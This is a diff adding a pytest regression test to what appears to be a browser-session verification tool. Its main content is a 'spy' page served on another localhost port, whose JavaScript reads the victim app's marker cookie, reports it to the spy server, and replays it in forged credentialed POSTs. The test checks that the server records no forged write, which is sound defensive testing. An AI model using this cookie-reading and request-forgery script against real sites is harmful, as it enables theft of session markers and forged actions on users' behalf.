@@ -269,6 +269,128 @@ def test_two_tabs_on_two_apps_see_only_their_own_records(tmp_path, daemon, mcp):
         fastapi_app.close()
 
 
+# -- a spy page on another port of the same host: reads the navigation's mark, replays it -------------
+
+SPY = """<!doctype html><html><head><title>Spy</title></head><body><iframe name="sink" sandbox></iframe><script>
+var VICTIM = '%s', seen = {};
+function replay(v) {
+  document.cookie = '__reticle_mark=' + v + '; path=/form; max-age=60';  // cookies ignore ports
+  for (var i = 0; i < 2; i++)
+    fetch(VICTIM + '/form', {method: 'POST', mode: 'no-cors', credentials: 'include', body: 'name=mallory',
+                             headers: {'Content-Type': 'application/x-www-form-urlencoded'}}).catch(function () {});
+  var f = document.createElement('form');
+  f.method = 'post'; f.action = VICTIM + '/form'; f.target = 'sink';
+  var field = document.createElement('input');
+  field.name = 'name'; field.value = 'mallory';
+  f.appendChild(field); document.body.appendChild(f); f.submit(); f.remove();
+}
+setInterval(function () {
+  var m = /(?:^|; )__reticle_mark=([^;]+)/.exec(document.cookie);
+  if (!m || seen[m[1]]) return;
+  seen[m[1]] = true;
+  fetch('/seen?v=' + encodeURIComponent(m[1]));
+  [0, 150, 400, 900].forEach(function (ms) { setTimeout(function () { replay(m[1]); }, ms); });
+}, 5);
+</script></body></html>"""
+
+
+class SpyServer:
+    """The spy's own origin: 127.0.0.1 on another port, serving SPY at every path (at /form it
+    reads cookies scoped to the victim's /form), and noting each mark it read (GET /seen)."""
+
+    def __init__(self, victim):
+        import http.server
+        import threading
+        self.seen = []
+        spy = self
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self):
+                if self.path.startswith("/seen?v="):
+                    spy.seen.append(self.path)
+                body = (SPY % victim).encode()
+                self.send_response(200)
+                self.send_header("Content-Type", "text/html")
+                self.send_header("Content-Length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+            def log_message(self, *args):
+                pass
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
+        self.url = "http://127.0.0.1:%d" % self.server.server_address[1]
+        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
+        self.thread.start()
+
+    def close(self):
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def devtools_port(browser):
+    try:
+        with open(os.path.join(browser.profile, "DevToolsActivePort")) as fh:
+            return fh.read().split()
+    except OSError:
+        return None
+
+
+BLANK = dict(WRITE, urlContains="/form")
+UNTHROTTLED = ("--disable-background-timer-throttling", "--disable-renderer-backgrounding",
+               "--disable-backgrounding-occluded-windows")
+
+
+@pytest.mark.parametrize("framework", FRAMEWORKS)
+def test_a_spy_page_on_another_port_plants_no_server_record(framework, tmp_path, daemon, mcp):
+    app = App(framework, tmp_path, daemon)
+    spy = SpyServer(app.url)
+    browser = None
+    try:
+        before = {s["sessionId"] for s in mcp.ok("reticle_sessions")["sessions"]}
+        # two tabs of one browser (one cookie jar): the victim app, and the spy's page opened beside it
+        browser = Browser(app.url + "/", extra_args=UNTHROTTLED)
+        devtools = wait_until(lambda: devtools_port(browser), 20, what="Chromium's DevTools port")
+        urllib.request.urlopen(urllib.request.Request("http://127.0.0.1:%s/json/new?%s/form" % (
+            devtools[0], spy.url), method="PUT"), timeout=10).close()
+        sid = wait_until(lambda: [s["sessionId"] for s in mcp.ok("reticle_sessions")["sessions"]
+                                  if s["sessionId"] not in before and s["url"].startswith(app.url)],
+                         20, what="the tab to connect")[0]
+        act(mcp, sid, "Save", dict(WRITE, urlContains="/api/save"))  # the middleware is known to this tab
+        rows = app.rows()
+        # the empty save the server refused: the spy reads its mark and posts a real write with it
+        out = act(mcp, sid, "Send blank", BLANK)
+        wait_until(lambda: spy.seen and app.rows() > rows, 15, what="the spy to replay the mark")
+        time.sleep(2.5)  # the spy's last replays and their records
+        assert out["verified"] != "yes", out
+        again = mcp.ok("reticle_assert", {"predicate": BLANK, "since": out["since"], "sessionId": sid,
+                                          "detail": "full"})
+        assert again["verified"] != "yes", again
+        records = [e["data"] for e in mcp.ok("reticle_observe", {"since": 0, "filters": ["server"],
+                                                                  "max_events": 2000, "sessionId": sid})["events"]]
+        posts = [r for r in records if r["method"] == "POST" and r["path"] == "/form"]
+        assert [(r["status"], len(r["writes"])) for r in posts] == [(303, 0)], posts  # the victim's own, only
+        # the healthy path, with the spy still replaying every mark it reads
+        out = act(mcp, sid, "Save", dict(WRITE, urlContains="/api/save"))
+        assert out["verified"] == "yes", out
+        time.sleep(1.5)  # the spy's replays of the old mark are done: it could only void the next one
+        out = act(mcp, sid, "Post form", {"kind": "allOf", "predicates": [
+            {"kind": "server", "method": "POST", "urlContains": "/form", "status": 303,
+             "writes": {"table": "profile", "op": "insert", "count": 1}},
+            {"kind": "server", "method": "GET", "urlContains": "/done", "status": 200}]})
+        assert out["verified"] == "yes", (out["because"], out.get("server"))
+        time.sleep(2.0)
+        records = [e["data"] for e in mcp.ok("reticle_observe", {"since": 0, "filters": ["server"],
+                                                                  "max_events": 2000, "sessionId": sid})["events"]]
+        posts = [r for r in records if r["method"] == "POST" and r["path"] == "/form"]
+        assert [(r["status"], len(r["writes"])) for r in posts] == [(303, 0), (303, 1)], posts
+        assert len(spy.seen) >= 2, spy.seen
+    finally:
+        if browser is not None:
+            browser.close()
+        spy.close()
+        app.close()
+
+
 # -- the middleware with no daemon, and the daemon's route ------------------------------------------
 
 def plain_wsgi_app(environ, start_response):
